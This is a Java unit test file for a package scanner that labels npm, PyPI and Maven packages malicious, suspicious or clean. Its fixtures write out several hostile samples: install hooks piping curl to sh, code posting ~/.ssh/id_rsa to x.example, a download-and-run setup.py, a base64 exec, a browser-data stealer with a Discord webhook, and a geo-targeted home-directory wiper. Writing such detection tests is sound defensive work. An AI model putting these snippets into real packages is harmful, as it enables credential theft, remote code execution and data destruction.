package io.vigil.scan.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.scan.Ecosystem;
import io.vigil.scan.Finding;
import io.vigil.scan.Verdict;
import io.vigil.scan.archive.PackageContents;
import io.vigil.scan.archive.PackageFile;
import io.vigil.scan.archive.RefusedEntry;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class PackageAnalyzerTest {
  private final PackageAnalyzer analyzer = new PackageAnalyzer();

  static PackageContents pkg(String... pathThenText) {
    List<PackageFile> files = new ArrayList<>();
    for (int i = 0; i < pathThenText.length; i += 2) {
      files.add(
          new PackageFile(pathThenText[i], pathThenText[i + 1].getBytes(StandardCharsets.UTF_8)));
    }
    return new PackageContents("test", "directory", files, List.of());
  }

  private Verdicts.Decision decide(PackageContents c) {
    return Verdicts.decide(analyzer.analyze(c).findings());
  }

  private static List<String> types(PackageAnalysis a) {
    return a.findings().stream().map(Finding::type).toList();
  }

  @Test
  void analyze_npmIdentity_fromPackageJson() {
    PackageAnalysis a =
        analyzer.analyze(pkg("package.json", "{\"name\":\"@x/y\",\"version\":\"1.2.3\"}"));
    assertThat(a.ecosystem()).isEqualTo(Ecosystem.NPM);
    assertThat(a.name()).isEqualTo("@x/y");
    assertThat(a.version()).isEqualTo("1.2.3");
  }

  @Test
  void analyze_installScriptPipingCurlToShell_malicious() {
    var d =
        decide(
            pkg(
                "package.json",
                "{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -s https://x.example/p | sh\"}}"));
    assertThat(d.verdict()).isEqualTo(Verdict.MALICIOUS);
    assertThat(d.reasons()).anyMatch(r -> r.startsWith("install-time-download-and-run"));
  }

  @Test
  void analyze_installScriptRunningFileThatSendsSshKey_malicious() {
    var d =
        decide(
            pkg(
                "package.json",
                "{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node lib/setup.js\"}}",
                "lib/setup.js",
                "const h = require('./helper');\nh.go();\n",
                "lib/helper.js",
                "const fs=require('fs'),https=require('https'),os=require('os');\n"
                    + "exports.go=()=>https.request({host:'x.example',method:'POST'}).end(fs.readFileSync(os.homedir()+'/.ssh/id_rsa'));\n"));
    assertThat(d.verdict()).isEqualTo(Verdict.MALICIOUS);
    assertThat(d.reasons()).anyMatch(r -> r.startsWith("install-time-exfiltration"));
  }

  @Test
  void analyze_cliThatSpawnsProcessesAndFetches_notMalicious() {
    var d =
        decide(
            pkg(
                "package.json",
                "{\"name\":\"tool\",\"version\":\"2.0.0\",\"repository\":\"github:o/tool\",\"license\":\"MIT\",\"description\":\"d\"}",
                "cli.js",
                "const { spawnSync } = require('child_process');\nconst https = require('https');\n"
                    + "https.get('https://registry.npmjs.org/tool', r => spawnSync('git', ['status']));\n"));
    assertThat(d.verdict()).isEqualTo(Verdict.CLEAN);
  }

  @Test
  void analyze_nativeBinaryInstallerThatDownloadsChmodsAndRunsIt_notMalicious() {
    // the esbuild/puppeteer pattern: fetch a platform binary at install, make it executable, test
    // it
    var d =
        decide(
            pkg(
                "package.json",
                "{\"name\":\"fastbin\",\"version\":\"0.20.0\",\"license\":\"MIT\",\"description\":\"d\","
                    + "\"repository\":\"github:o/fastbin\",\"scripts\":{\"postinstall\":\"node install.js\"}}",
                "install.js",
                "const fs = require('fs'), os = require('os'), path = require('path');\n"
                    + "const https = require('https');\nconst { execFileSync } = require('child_process');\n"
                    + "const dir = path.join(os.homedir(), '.cache', 'fastbin');\n"
                    + "https.get('https://registry.npmjs.org/@fastbin/linux-x64/-/linux-x64-0.20.0.tgz', res => {\n"
                    + "  const bin = path.join(dir, 'fastbin');\n  fs.chmodSync(bin, 0o755);\n"
                    + "  execFileSync(bin, ['--version']);\n});\n"));
    assertThat(d.verdict()).isNotEqualTo(Verdict.MALICIOUS);
  }

  @Test
  void analyze_templateEngineWithNewFunction_notMalicious() {
    var d =
        decide(
            pkg(
                "package.json",
                "{\"name\":\"tpl\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"description\":\"d\",\"homepage\":\"https://x\"}",
                "index.js",
                "module.exports = src => new Function('data', 'return `' + src + '`');\n"));
    assertThat(d.verdict()).isEqualTo(Verdict.CLEAN);
  }

  @Test
  void analyze_browserStealerWithWebhook_maliciousAndExplained() {
    var d =
        decide(
            pkg(
                "setup.py",
                "from setuptools import setup\nsetup(name='x', version='1')\n",
                "x/__init__.py",
                "import os\nLOCAL=os.getenv('LOCALAPPDATA')\n"
                    + "p=os.path.join(LOCAL,'Google','Chrome','User Data','Local State')\n",
                "x/send.py",
                "HOOK='https://discord.com/api/webhooks/123456789012/abcDEF'\n"));
    assertThat(d.verdict()).isEqualTo(Verdict.MALICIOUS);
    assertThat(d.reasons())
        .anyMatch(r -> r.contains("credential-theft-with-drop-box") && r.contains("x/send.py"));
  }

  @Test
  void analyze_setupPyExecutingDecodedPayload_malicious() {
    var d =
        decide(
            pkg(
                "setup.py",
                "import base64\nfrom setuptools import setup\nexec(base64.b64decode('aW1wb3J0IG9z'))\nsetup(name='x')\n"));
    assertThat(d.verdict()).isEqualTo(Verdict.MALICIOUS);
  }

  @Test
  void analyze_setupPyDownloadingAndRunningABinary_malicious() {
    var d =
        decide(
            pkg(
                "setup.py",
                "import os, subprocess, urllib.request\nfrom setuptools import setup\n"
                    + "urllib.request.urlretrieve('https://files.example/tool', '/tmp/tool')\n"
                    + "os.chmod('/tmp/tool', 0o755)\nsubprocess.Popen(['/tmp/tool'])\nsetup(name='x')\n"));
    assertThat(d.verdict()).isEqualTo(Verdict.MALICIOUS);
    assertThat(d.reasons()).anyMatch(r -> r.startsWith("setup-script-fetch-and-run"));
  }

  @Test
  void analyze_setupPyImportingItsOwnNetworkingPackage_notMalicious() {
    // setup.py reads the version from the package, whose code uses requests and subprocess
    var d =
        decide(
            pkg(
                "setup.py",
                "from setuptools import setup\nfrom client import __version__\nsetup(name='client', version=__version__)\n",
                "client/__init__.py",
                "import requests, subprocess\n__version__ = '1.0'\n"
                    + "def run(u):\n    return subprocess.run(['git', 'ls-remote', requests.get(u).text])\n"));
    assertThat(d.verdict()).isNotEqualTo(Verdict.MALICIOUS);
  }

  @Test
  void analyze_moduleRunningCurlPipedToShell_malicious() {
    var d =
        decide(
            pkg(
                "setup.py",
                "from setuptools import setup\nsetup(name='x')\n",
                "x/__init__.py",
                "import subprocess\nsubprocess.run('curl -s https://x.example/i | bash', shell=True)\n"));
    assertThat(d.verdict()).isEqualTo(Verdict.MALICIOUS);
    assertThat(d.reasons()).anyMatch(r -> r.startsWith("pipe-to-shell-execution"));
  }

  @Test
  void analyze_setupPyCmdclassHookAlone_notMalicious() {
    PackageAnalysis a =
        analyzer.analyze(
            pkg(
                "setup.py",
                "from setuptools import setup\nfrom setuptools.command.install import install\n"
                    + "class Post(install):\n    def run(self):\n        install.run(self)\n        print('thanks')\n"
                    + "setup(name='x', cmdclass={'install': Post})\n"));
    assertThat(types(a)).contains("setup-install-hook");
    assertThat(Verdicts.decide(a.findings()).verdict()).isNotEqualTo(Verdict.MALICIOUS);
  }

  @Test
  void analyze_geoTargetedWiper_maliciousAsSabotage() {
    var d =
        decide(
            pkg(
                "package.json",
                "{\"name\":\"ipc-lib\",\"version\":\"10.1.1\",\"license\":\"MIT\",\"description\":\"d\",\"repository\":\"github:o/ipc-lib\"}",
                "lib/geo.js",
                "const https = require('https');\nhttps.get('https://api.ipgeolocation.io/ipgeo', r => {\n"
                    + "  if (r.country_name === 'russia' || r.country_name === 'belarus') wipe();\n});\n",
                "lib/wipe.js",
                "const fs = require('fs');\nexports.wipe = () => fs.rmSync(os.homedir(), { recursive: true });\n"));
    assertThat(d.verdict()).isEqualTo(Verdict.MALICIOUS);
    assertThat(d.reasons()).anyMatch(r -> r.startsWith("targeted-sabotage"));
  }

  @Test
  void analyze_securityHoldingPackage_clean() {
    var d =
        decide(
            pkg(
                "package.json",
                "{\"name\":\"x\",\"version\":\"0.0.1-security\",\"description\":\"security holding package\",\"repository\":\"npm/security-holder\"}",
                "README.md",
                "This package contained malicious code and was removed."));
    assertThat(d.verdict()).isEqualTo(Verdict.CLEAN);
  }

  @Test
  void analyze_releaseWithoutAnyCode_suspicious() {
    var d =
        decide(
            pkg(
                "package.json",
                "{\"name\":\"lib\",\"version\":\"6.6.6\",\"main\":\"index.js\",\"repository\":\"github:o/lib\"}",
                "Readme.md",
                "gone"));
    assertThat(d.verdict()).isEqualTo(Verdict.SUSPICIOUS);
    assertThat(d.reasons()).anyMatch(r -> r.startsWith("no-code-release"));
  }

  @Test
  void analyze_refusedArchiveEntry_reportedAsFinding() {
    PackageContents c =
        new PackageContents(
            "t.tgz",
            "tar",
            List.of(),
            List.of(new RefusedEntry("../../x", "path-traversal", "a '..' segment")));
    assertThat(types(analyzer.analyze(c))).contains("archive-path-traversal");
  }

  @Test
  void analyze_bundleWithDistantSignals_noFileThreat() {
    // a large bundle that downloads in one module and writes an .exe name in another, far apart
    String filler = "var x = 1;\n".repeat(60_000);
    String code =
        "const https = require('https');\n"
            + filler
            + "const name = 'setup.exe';\n"
            + filler
            + "require('child_process');\n";
    var d =
        decide(
            pkg(
                "package.json",
                "{\"name\":\"big\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"description\":\"d\",\"homepage\":\"https://x\"}",
                "dist/bundle.js",
                code));
    assertThat(d.verdict()).isNotEqualTo(Verdict.MALICIOUS);
  }

  @Test
  void analyze_jarWithLauncherAgent_reportsAgent() {
    PackageAnalysis a =
        analyzer.analyze(
            pkg(
                "META-INF/MANIFEST.MF",
                "Manifest-Version: 1.0\nLauncher-Agent-Class: a.Agent\n",
                "a/Agent.class",
                "not really a class"));
    assertThat(a.ecosystem()).isEqualTo(Ecosystem.MAVEN);
    assertThat(types(a)).contains("java-agent");
  }

  @Test
  void decide_scoresDropPerCategoryAndStayInRange() {
    var d =
        decide(
            pkg(
                "package.json",
                "{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -s https://x.example/p | sh\"}}"));
    assertThat(d.scores()).allSatisfy((k, v) -> assertThat(v).isBetween(0, 100));
    assertThat(d.scores().get(io.vigil.scan.ScoreCategory.SUPPLY_CHAIN)).isZero();
  }
}
